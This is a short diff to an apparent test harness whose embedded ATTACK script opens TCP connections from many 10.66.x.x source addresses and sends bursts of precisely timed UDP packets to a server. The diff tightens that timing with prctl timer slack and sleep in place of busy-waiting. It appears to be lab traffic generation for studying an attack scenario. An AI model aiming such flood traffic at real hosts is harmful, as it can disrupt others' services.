@@ -47,7 +47,9 @@ while True:
 	c.close()
 ''' % SERVER
 ATTACK = '''
-import socket, sys, time
+import ctypes, socket, sys, time
+PR_SET_TIMERSLACK = 29
+ctypes.CDLL(None).prctl(PR_SET_TIMERSLACK, 1)
 for i in range(int(sys.argv[1])):
 	source = '10.66.%%d.%%d' %% (i // 250, i %% 250 + 1)
 	s = socket.socket()
@@ -59,8 +61,7 @@ for i in range(int(sys.argv[1])):
 	s.send(b'GET /attack HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n')
 	begin = time.perf_counter()
 	for n in range(150):
-		while time.perf_counter() < begin + n * 1e-4:
-			pass
+		time.sleep(max(0, begin + n * 1e-4 - time.perf_counter()))
 		u.sendto(b'x', ('%(server)s', 5000))
 	u.close()
 	s.close()
